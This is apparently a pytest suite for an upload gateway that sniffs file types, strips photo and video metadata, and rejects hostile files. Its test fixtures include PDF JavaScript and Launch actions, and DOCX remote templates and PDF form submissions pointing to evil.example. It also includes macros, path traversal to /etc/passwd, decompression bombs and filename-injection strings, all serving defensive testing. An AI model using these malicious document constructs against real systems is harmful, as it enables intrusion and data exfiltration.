"""What is let in is what the content says it is, and hostile files are refused by name."""

from __future__ import annotations

import zlib
from io import BytesIO
from typing import Any
from zipfile import ZIP_BZIP2, ZIP_LZMA

import pytest
from PIL import Image

from gateway.inspection import TYPES, inspected, pictures, unfit
from tests.gateway import uploaded

MIB = 1024 * 1024
LIMIT = 10 * MIB
HEX = b"4 0 << /S /JavaScript >>".hex().encode()

FIT = [
    (uploaded.picture("JPEG"), "jpeg", "水管.jpg"),
    (uploaded.picture("PNG"), "png", "水管.png"),
    (uploaded.picture("PNG", mode="L"), "png", "水管.png"),
    (uploaded.picture("GIF", mode="P"), "png", "水管.png"),
    (uploaded.picture("WEBP"), "webp", "水管.webp"),
    (uploaded.pdf(), "pdf", "水管.pdf"),
    (uploaded.pdf(uploaded.packed_objects(b"4 0 << >>"), uploaded.packed_objects(b"5 0 << >>")), "pdf", "水管.pdf"),
    (uploaded.document(), "docx", "水管.docx"),
    (uploaded.document(uploaded.SHEET), "xlsx", "水管.xlsx"),
    (uploaded.ofd(), "ofd", "水管.ofd"),
    ("三号楼停水".encode(), "txt", "水管.txt"),
    ("三号楼停水".encode("gb18030"), "txt", "水管.txt"),
    (uploaded.mp3(tag=b"made by me"), "mp3", "水管.mp3"),
    (uploaded.mp4(), "mp4", "水管.mp4"),
    (uploaded.amr(), "amr", "水管.amr"),
]

HOSTILE = [
    (b"MZ\x90\x00 this program cannot be run in DOS mode", unfit.UnknownType),
    (b"\x7fELF\x02\x01\x01\x00", unfit.UnknownType),
    (b"<html><script>alert(1)</script></html>", unfit.UnknownType),
    (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', unfit.UnknownType),
    (b"", unfit.Damaged),
    (b" \n ", unfit.Damaged),
    (uploaded.archive({"a.txt": b"a"}), unfit.UnknownType),
    (uploaded.enormous_png(), unfit.TooManyPixels),
    (uploaded.enormous_png(40_000, 10), unfit.TooManyPixels),
    (uploaded.picture()[:200], unfit.Damaged),
    (b"\xff\xd8\xff\xe0 no picture", unfit.Damaged),
    (b"%PDF-1.7 no end", unfit.Damaged),
    (uploaded.pdf() + uploaded.archive({"a.exe": b"MZ"}), unfit.Disguised),
    (uploaded.pdf() + uploaded.archive({"a.exe": b"MZ"}) + b"%%EOF", unfit.Disguised),
    (uploaded.pdf() + b"<script>alert(1)</script>", unfit.Disguised),
    (uploaded.pdf(b"<< /S /JavaScript /JS (app.alert) >>"), unfit.Active),
    (uploaded.pdf(b"<< /S /J#61vaScript /JS (app.alert) >>"), unfit.Active),
    (uploaded.pdf(b"<< /Type /EmbeddedFile >>"), unfit.Active),
    (uploaded.pdf(b"<< /S /Launch /F (calc.exe) >>"), unfit.Active),
    (uploaded.pdf(uploaded.packed_objects(b"4 0 << /S /JavaScript /JS (app.alert) >>")), unfit.Active),
    (uploaded.pdf(uploaded.packed_objects(b"4 0 << /S /Java#53cript /JS (app.alert) >>")), unfit.Active),
    (uploaded.pdf(b"<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nabc\nendstream"), unfit.Damaged),
    (uploaded.pdf(uploaded.packed_objects(bytes(65 * MIB))), unfit.Bomb),
    (uploaded.pdf(uploaded.packed_objects(HEX, b"/ASCIIHexDecode")), unfit.Disguised),
    (
        uploaded.pdf(uploaded.packed_objects(zlib.compress(b"4 0 << /S /JavaScript >>"), b"/Fl#61teDecode")),
        unfit.Disguised,
    ),
    (uploaded.pdf(uploaded.packed_objects(b"4 0 << >>", b"/DecodeParms 9 0 R")), unfit.Disguised),
    (uploaded.pdf(b"<< /Filter [/FlateDecode /FlateDecode] >>\nstream\nabc\nendstream"), unfit.Bomb),
    (uploaded.pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"), unfit.Active),
    (uploaded.pdf(b"<< /S /GoToR /F (//evil.example/a) >>"), unfit.Active),
    (uploaded.pdf(uploaded.packed_objects(b"4 0 << >>", b"/DecodeParms << /Predictor 12 >>")), unfit.Disguised),
    (uploaded.pdf(uploaded.packed_objects(b"4 0 << >>", b" " * 5000 + b"/Image /x")), unfit.Disguised),
    (uploaded.pdf(uploaded.packed_objects(b"4 0 << >>", b"/X (endobj)")), unfit.Disguised),
    (uploaded.pdf(uploaded.packed_objects(b"4 0 << >>").replace(b"stream\n", b"stream\r", 1)), unfit.Disguised),
    (uploaded.pdf(uploaded.packed_objects(b"4 0 << >>").replace(b"/ObjStm", b"5 0 R"), b"/ObjStm"), unfit.Disguised),
    (uploaded.pdf(b"stream\n" * 50_001), unfit.Bomb),
    (uploaded.pdf(b"<< /Encrypt 5 0 R >>"), unfit.Locked),
    (uploaded.document(uploaded.MACROS), unfit.Active),
    (uploaded.document(word__vbaProject_bin=b"macro"), unfit.Active),
    (uploaded.document(word__embeddings__oleObject1_bin=b"ole"), unfit.Active),
    (uploaded.document(word__embeddings__inner_xlsx=b"PK"), unfit.Active),
    (uploaded.document(word__run_exe=b"MZ"), unfit.Active),
    (
        uploaded.document(
            word___rels__settings_xml_rels=b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
        ),
        unfit.Active,
    ),
    (uploaded.document(word__bomb_xml=b" " * (101 * MIB)), unfit.Bomb),
    (uploaded.document(word__lol_xml=b'<!DOCTYPE lolz [<!ENTITY lol "lol">]>'), unfit.Disguised),
    (
        uploaded.document(word___rels__a_rels=uploaded.related('Target="http://a>b" TargetMode="External"')),
        unfit.Active,
    ),
    (uploaded.document(word___rels__a_rels=uploaded.related('TargetMode="&#69;xternal"')), unfit.Active),
    (uploaded.document(word___rels__a_rels=uploaded.related('TargetMode="External"', "r:")), unfit.Active),
    (uploaded.document(word___rels__a_rels=b" " * (21 * MIB)), unfit.Bomb),
    (uploaded.document(word___rels__a_rels=b"<Relationships>"), unfit.Damaged),
    (uploaded.document(word__wide_xml="<!DOCTYPE a>".encode("utf-16")), unfit.Disguised),
    (uploaded.document(word__late_xml=b" " * (256 * 1024 - 5) + b"<!DOCTYPE a>"), unfit.Disguised),
    (uploaded.document(uploaded.WORD + " " * 300_000 + "<a>application/vnd.ms-office.vbaProject</a>"), unfit.Active),
    (uploaded.document(packed=ZIP_BZIP2, word__bomb_txt=bytes(64 * MIB)), unfit.Damaged),
    (uploaded.document(packed=ZIP_LZMA), unfit.Damaged),
    (uploaded.document() + b"#!/bin/sh", unfit.Disguised),
    (b"PK\x03\x04 no archive", unfit.Damaged),
    (uploaded.archive({"../../etc/passwd": b"x", "[Content_Types].xml": uploaded.WORD.encode()}), unfit.Disguised),
    (uploaded.mp3(2), unfit.Damaged),
    (uploaded.mp3() + b"<script>", unfit.Disguised),
    (uploaded.amr()[:-1], unfit.Damaged),
    (uploaded.mp4()[:-1], unfit.Damaged),
    (uploaded.mp4() + uploaded.box(b"evil", b"MZ"), unfit.Disguised),
    (b"\0\0\0\x18ftypevil\0\0\0\0", unfit.Damaged),
]


def let_in(data: bytes, name: str = "水管.bin", types: tuple[str, ...] = TYPES, limit: int = LIMIT) -> Any:
    """The file as it is kept."""
    return inspected(data, name, types, limit)


@pytest.mark.parametrize(("data", "type_", "name"), FIT, ids=map(str, range(len(FIT))))
def test_a_file_is_what_its_content_says_whatever_it_is_called(data: bytes, type_: str, name: str) -> None:
    fit = let_in(data)
    assert (fit.type, fit.name) == (type_, name)
    assert let_in(fit.content).type == type_  # and it is fit once more


def test_nothing_of_where_and_by_what_a_photograph_was_taken_is_left() -> None:
    data = uploaded.photograph()
    assert b"SpyPhone" in data
    assert b"taken at home" in data
    kept = let_in(data).content
    for trace in (b"Exif", b"SpyPhone", b"GPS", b"2024:03:01", b"taken at home", b"ICC_PROFILE"):
        assert trace not in kept
    with Image.open(BytesIO(kept)) as image:
        assert not image.getexif()
        assert image.size == (20, 40)  # upright, though the note of the orientation is gone
        red, _, blue = image.convert("RGB").getpixel((10, 5))  # type: ignore[misc]
        assert red > blue


def test_what_stands_behind_a_picture_is_gone() -> None:
    hidden = uploaded.archive({"virus.exe": b"MZ this program cannot be run"})
    for kind in ("JPEG", "PNG", "GIF", "WEBP"):
        mode = "P" if kind == "GIF" else "RGB"
        kept = let_in(uploaded.picture(kind, mode=mode) + hidden + b"<script>alert(1)</script>").content
        assert b"virus" not in kept
        assert b"script" not in kept


def test_a_film_is_no_place_to_hide_in_and_boxes_in_boxes_without_end_are_not_followed() -> None:
    deep = b""
    for _ in range(2000):
        deep = uploaded.box(b"trak", deep)
    kept = let_in(uploaded.mp4() + uploaded.box(b"free", b"MZ hidden") + uploaded.box(b"moov", deep)).content
    assert b"hidden" not in kept
    assert kept.endswith(deep)


def test_a_film_tells_no_place_and_a_recording_no_name() -> None:
    film = uploaded.mp4()
    assert b"+39.9075" in film
    kept = let_in(film).content
    assert b"+39.9075" not in kept
    assert b"xyz" not in kept
    assert len(kept) == len(film)
    assert b"made by me" not in let_in(uploaded.mp3(tag=b"made by me")).content


def test_what_a_camera_writes_beside_the_film_is_gone_and_film_and_sound_stay() -> None:
    film = uploaded.film(b"moving picture", b"+39.9075+116.3881/", b"sound of water")
    kept = let_in(film).content
    assert b"+39.9075" not in kept
    assert b"moving picture" in kept
    assert b"sound of water" in kept
    assert len(kept) == len(film)
    assert (film.count(b"trak"), kept.count(b"trak")) == (3, 2)


def test_a_track_whose_samples_cannot_be_found_is_not_let_in() -> None:
    film = uploaded.film(b"moving picture", b"+39.9075+116.3881/", b"sound of water")
    for name in (b"stco", b"stsz", b"stsc"):
        with pytest.raises(unfit.Damaged):
            let_in(film.replace(name, b"none"))
    with pytest.raises(unfit.Disguised):
        let_in(film + uploaded.box(b"moof", b""))


def test_a_picture_takes_a_few_bytes_a_pixel_while_it_is_drawn_anew() -> None:
    drawn = ("L", "RGB", "RGBA")
    for mode in drawn:
        source = Image.new(mode, (10, 10))
        assert pictures._plain(source, opaque=False) is source, "no copy beside the one that was decoded"
    for mode in ("CMYK", "I", "I;16", "P", "LA", "1"):
        source = Image.new(mode, (10, 10))
        assert pictures._plain(source, opaque=False).mode in drawn
        with pytest.raises(ValueError, match="closed"):
            source.getpixel((0, 0))  # it does not stand beside what was made of it
    assert type(pictures._upright(uploaded.picture("WEBP"), "webp")) is Image.Image, "without what unpacked it"
    with pytest.raises(unfit.TooManyPixels):
        let_in(uploaded.enormous_png())


@pytest.mark.parametrize(("data", "refusal"), HOSTILE, ids=map(str, range(len(HOSTILE))))
def test_a_hostile_or_broken_file_is_refused_by_name(data: bytes, refusal: type[Exception]) -> None:
    with pytest.raises(refusal):
        let_in(data)


def test_a_link_to_a_website_is_no_reason_to_refuse_a_document() -> None:
    link = (
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'hyperlink" Target="https://www.example.gov.cn" TargetMode="External"/></Relationships>'
    )
    assert let_in(uploaded.document(word___rels__document_xml_rels=link)).type == "docx"


def test_only_the_types_that_the_office_takes_are_let_in() -> None:
    assert let_in(uploaded.picture(), types=("jpeg",)).type == "jpeg"
    for data in (uploaded.pdf(), uploaded.document(), uploaded.mp3(), "文本".encode(), uploaded.picture("PNG")):
        with pytest.raises(unfit.UnknownType):
            let_in(data, types=("jpeg",))


def test_a_file_is_no_larger_than_the_limit() -> None:
    assert let_in(b"a" * MIB, limit=MIB).type == "txt"
    with pytest.raises(unfit.TooLarge):
        let_in(b"a" * (MIB + 1), limit=MIB)


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("photo.exe", "photo.png"),
        ("../../etc/passwd", "passwd.png"),
        ("C:\\Users\\王\\桌面\\水管 漏水.jpeg", "水管 漏水.png"),
        ("evil\u202egnp.exe", "evilgnp.png"),
        ("a\r\nSet-Cookie: x.png", "aSet-Cookie x.png"),
        ("", "attachment.png"),
        ("...", "attachment.png"),
        ("con.txt", "_con.png"),
        ("长" * 300 + ".png", "长" * 80 + ".png"),
        ('a"b<c>.png', "a b c.png"),
    ],
)
def test_a_name_is_cleaned(name: str, kept: str) -> None:
    assert let_in(uploaded.picture("PNG"), name).name == kept
